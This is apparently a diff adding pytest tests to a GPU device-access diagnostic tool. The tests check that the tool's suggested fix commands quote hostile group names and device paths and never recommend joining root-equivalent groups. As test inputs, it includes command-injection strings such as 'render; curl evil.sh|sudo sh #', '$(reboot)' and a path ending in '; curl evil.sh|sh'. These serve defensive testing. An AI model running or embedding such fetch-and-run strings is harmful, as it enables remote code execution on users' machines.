@@ -84,6 +84,51 @@ def test_what_stands_in_the_way_is_named_with_the_line_that_removes_it(
     assert all(fix in o.fix and bool(o.fix) is bool(fix) for o in found), found
 
 
+EVIL = "render; curl evil.sh|sudo sh #"
+ROOTS = ["root", "sudo", "docker", "disk", "shadow", "wheel", "adm"]
+
+
+def fixes_of(node, **who):
+    rows = [{**ME, **who}]
+    found = obstacles(bundle(access=[node, RENDER], pci_devices=[AMD], identity=rows))
+    return [o.fix for o in found]
+
+
+@pytest.mark.parametrize("who", [{}, DOCKER, {"groups_in_database": ["render", EVIL, *ROOTS]}])
+@pytest.mark.parametrize("group", [EVIL, "$(reboot)", "render\nreboot", "-G root", "`x`", "a" * 40])
+def test_a_name_that_no_group_has_never_stands_in_a_command(group, who):
+    for fix in fixes_of(refused(KFD, group=group), **who):
+        assert fix == "" or group not in fix, fix
+    assert all(
+        "usermod" not in fix and "newgrp" not in fix
+        for fix in fixes_of(refused(KFD, group=group), **who)
+    )
+
+
+@pytest.mark.parametrize("mode", ["0660", "0600"])
+@pytest.mark.parametrize("who", [{}, DOCKER, {"groups_in_database": ROOTS}])
+@pytest.mark.parametrize("group", ROOTS)
+def test_nobody_is_told_to_join_a_group_that_has_roots_rights(group, who, mode):
+    (fix,) = fixes_of(refused(KFD, group=group, gid=7, mode=mode), **who)
+    assert f"usermod -aG {group}" not in fix and "newgrp" not in fix and "--group-add 7" not in fix
+    assert 'KERNEL=="kfd", GROUP="render", MODE="0660"' in fix and "70-amdgpu.rules" in fix
+    assert ("on the host" in fix) is (who is DOCKER)
+    (by_number,) = fixes_of(refused(KFD, group="render", gid=0), **who)
+    assert "70-amdgpu.rules" in by_number
+
+
+def test_a_path_that_a_stranger_wrote_is_one_word_of_a_command():
+    node = refused({**RENDER, "mode": "0600"}, path="/dev/dri/x; curl evil.sh|sh")
+    fixes = [o.fix for o in obstacles(bundle(access=[KFD, node], pci_devices=[AMD], identity=[ME]))]
+    assert "ls -l '/dev/dri/x; curl evil.sh|sh'" in fixes
+
+
+def test_a_group_of_roots_on_nvidias_nodes_is_the_modules_matter():
+    node = refused({**CARD, "mode": "0660"})
+    found = obstacles(bundle(access=[CONTROL, node], pci_devices=[NVIDIA], identity=[ME]))
+    assert [o.fix for o in found] == ["grep DeviceFile /proc/driver/nvidia/params"]
+
+
 @pytest.mark.parametrize(
     ("display", "name", "value", "hides"),
     [
